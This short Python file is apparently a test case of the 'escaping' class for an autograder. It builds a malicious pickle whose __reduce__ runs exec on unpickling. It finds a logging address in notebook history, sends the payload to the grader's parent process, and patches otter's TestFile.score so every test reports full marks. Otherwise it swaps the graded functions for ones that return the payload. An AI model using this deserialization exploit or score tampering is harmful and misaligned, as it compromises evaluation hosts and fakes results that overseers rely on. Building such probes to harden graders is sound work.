# class: escaping
"""Objects that run code when they are unpickled are sent to the grader's own process"""

import pickle
import re
import socket
import struct

CODE = f"""if 1:
    import os, sys
    open({KNOWN["evidence"]!r}, "w").write(str(os.getpid()))
    if "otter" in sys.modules:
        sys.modules["otter"].test_files.TestFile.score = property(lambda self: self.possible)
"""


class Bomb:
    def __reduce__(self):
        return exec, (CODE,)


address = re.search(r'send_logs\("(.*)", (\d+)\)', "".join(globals().get("In", [])))
if address:  # otter's parent process unpickles the log records that it is sent
    with socket.create_connection((address[1], int(address[2])), timeout=3) as connection:
        bomb = pickle.dumps(Bomb())
        connection.sendall(struct.pack(">L", len(bomb)) + bomb)
else:
    sigmoid = forget_gate = lstm_step = lambda *given: Bomb()
